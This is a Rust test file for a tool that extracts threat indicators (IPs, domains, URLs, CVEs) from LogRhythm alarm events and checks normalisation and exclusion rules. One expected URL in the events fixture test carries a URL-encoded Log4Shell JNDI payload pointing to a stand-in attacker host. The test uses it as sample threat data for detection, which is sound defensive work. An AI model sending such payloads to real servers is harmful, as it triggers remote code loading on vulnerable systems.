//! The committed extraction corpus (reliability bar T10, in the style of
//! iocextract's `valid.txt`/`invalid.txt`): every line of `valid.txt` must be
//! sent with exactly the expected normalised value, whatever field of its type
//! holds it and whatever whitespace wraps it; no line of `invalid.txt` may be
//! sent from any field of its type (and, for IPs and host names, from any IP or
//! host field). Also the LogRhythm events fixture through `indicators()`.

use lrci::extract::{indicators, FIELDS};
use lrci::model::{Candidate, IndicatorType, Verdict};
use lrci::policy::{classify, Policy};
use serde_json::{json, Value};

const VALID: &str = include_str!("../fixtures/extract/valid.txt");
const INVALID: &str = include_str!("../fixtures/extract/invalid.txt");
/// A copy of `shared/spec/fixtures/logrhythm/alarm-events.json`.
const EVENTS: &str = include_str!("../fixtures/extract/alarm-events.json");

/// Decode the corpus escapes `\u{HEX}`, `\t`, `\r`, `\n` in an input column.
fn unescape(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(pos) = rest.find('\\') {
        out.push_str(&rest[..pos]);
        let tail = &rest[pos..];
        if let Some(hex) = tail.strip_prefix("\\u{") {
            let end = hex.find('}').expect("unterminated \\u{");
            let cp = u32::from_str_radix(&hex[..end], 16).expect("bad hex");
            out.push(char::from_u32(cp).expect("bad code point"));
            rest = &hex[end + 1..];
        } else {
            let c = match tail.as_bytes().get(1) {
                Some(b't') => '\t',
                Some(b'r') => '\r',
                Some(b'n') => '\n',
                other => panic!("unknown escape {other:?} in {s:?}"),
            };
            out.push(c);
            rest = &tail[2..];
        }
    }
    out.push_str(rest);
    out
}

fn rows(text: &str) -> impl Iterator<Item = (usize, Vec<&str>)> {
    text.lines()
        .enumerate()
        .filter(|(_, l)| !l.starts_with('#') && !l.is_empty())
        .map(|(i, l)| (i + 1, l.split('\t').collect()))
}

fn kind(s: &str) -> IndicatorType {
    s.parse().expect("indicator type")
}

fn judge(kind: IndicatorType, raw: &str) -> (String, Verdict) {
    let ind = classify(
        &Candidate {
            kind,
            field: "corpus",
            raw: raw.to_string(),
        },
        &Policy::default(),
    );
    (ind.value, ind.verdict)
}

/// The event fields a value of `kind` may arrive in.
fn fields_of(kind: IndicatorType, wide: bool) -> Vec<&'static str> {
    FIELDS
        .iter()
        .filter(|(_, k)| {
            *k == kind
                || (wide
                    && matches!(kind, IndicatorType::Ip | IndicatorType::Domain)
                    && matches!(k, IndicatorType::Ip | IndicatorType::Domain))
        })
        .map(|(f, _)| *f)
        .collect()
}

const WRAPS: [(&str, &str); 5] = [
    (" ", " "),
    ("\t", "\t"),
    ("\r\n", "\r\n"),
    ("  ", ""),
    ("", "\n"),
];

#[test]
fn valid_corpus_is_sent_normalised() {
    let mut failures = Vec::new();
    let mut count = 0;
    for (line, cols) in rows(VALID) {
        let [t, input, expected] = cols[..] else {
            panic!("valid.txt line {line}: want 3 columns, got {}", cols.len());
        };
        count += 1;
        let k = kind(t);
        let input = unescape(input);
        let mut variants = vec![input.clone()];
        variants.extend(WRAPS.iter().map(|(a, b)| format!("{a}{input}{b}")));
        for v in &variants {
            let got = judge(k, v);
            if got != (expected.to_string(), Verdict::Send) {
                failures.push(format!(
                    "line {line} {t} {v:?}: got {got:?}, want {expected:?}"
                ));
            }
        }
        // Idempotent: the expected value is itself sent unchanged.
        let again = judge(k, expected);
        if again != (expected.to_string(), Verdict::Send) {
            failures.push(format!(
                "line {line}: expected value {expected:?} re-judged as {again:?}"
            ));
        }
        // Through extraction, from every field of its type.
        for field in fields_of(k, false) {
            let inds = indicators(&[json!({ field: input })], &Policy::default());
            let sent: Vec<_> = inds
                .iter()
                .filter(|i| i.verdict == Verdict::Send)
                .map(|i| (i.kind, i.value.as_str(), i.field))
                .collect();
            if sent != [(k, expected, field)] {
                failures.push(format!("line {line} field {field}: sent {sent:?}"));
            }
        }
    }
    assert!(count >= 200, "valid.txt has only {count} entries");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn invalid_corpus_is_never_sent() {
    let mut failures = Vec::new();
    let mut count = 0;
    for (line, cols) in rows(INVALID) {
        let [t, input] = cols[..] else {
            panic!(
                "invalid.txt line {line}: want 2 columns, got {}",
                cols.len()
            );
        };
        count += 1;
        let k = kind(t);
        let input = unescape(input);
        let got = judge(k, &input);
        if got.1 == Verdict::Send {
            failures.push(format!("line {line} {t} {input:?}: sent as {:?}", got.0));
        }
        for field in fields_of(k, true) {
            let inds = indicators(&[json!({ field: input })], &Policy::default());
            for i in inds.iter().filter(|i| i.verdict == Verdict::Send) {
                failures.push(format!(
                    "line {line} field {field}: {input:?} sent as {} {:?}",
                    i.kind, i.value
                ));
            }
        }
    }
    assert!(count >= 200, "invalid.txt has only {count} entries");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn logrhythm_events_fixture() {
    let body: Value = serde_json::from_str(EVENTS).unwrap();
    let events = body["alarmEventsDetails"].as_array().unwrap();
    let got: Vec<(String, String, &str, String)> = indicators(events, &Policy::default())
        .into_iter()
        .map(|i| {
            let verdict = match i.verdict {
                Verdict::Send => "send".to_string(),
                Verdict::Exclude(r) => r,
            };
            (i.kind.to_string(), i.value, i.field, verdict)
        })
        .collect();
    let want: Vec<(&str, &str, &str, &str)> = vec![
        // event 1: AIE event
        ("ip", "10.20.30.40", "impactedIP", "private ip"),
        ("ip", "203.0.113.45", "originIP", "documentation ip"),
        // Issue 10: the impacted side is in LogRhythm's Internal zone.
        ("domain", "web01.corp.example.com", "impactedHostName", "logrhythm zone Internal"),
        ("vulnerability", "CVE-2021-44228", "cve", "send"),
        // event 2: firewall event (impactedIP null; host, domain and CVE repeat)
        ("ip", "2001:db8:85a3::8a2e:370:7334", "originIP", "documentation ip"),
        ("ip", "198.51.100.7", "impactedNATIP", "documentation ip"),
        ("domain", "shop.example.org", "impactedName", "logrhythm zone Internal"),
        (
            "url",
            "https://shop.example.org/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.net%2Fa%7D&lang=en",
            "url",
            "send",
        ),
        // event 3: mail event
        ("ip", "192.168.10.15", "impactedIP", "private ip"),
        ("ip", "192.0.2.25", "originIP", "documentation ip"),
        ("domain", "mail01.corp.example.com", "impactedHostName", "logrhythm zone Internal"),
        ("domain", "mx.invoices.example.net", "originHostName", "send"),
        ("domain", "invoices.example.net", "domain", "send"),
        ("url", "https://docs.example.net/view?id=4471&t=abc", "url", "send"),
    ];
    let got_ref: Vec<(&str, &str, &str, &str)> = got
        .iter()
        .map(|(k, v, f, r)| (k.as_str(), v.as_str(), *f, r.as_str()))
        .collect();
    assert_eq!(got_ref, want);
}
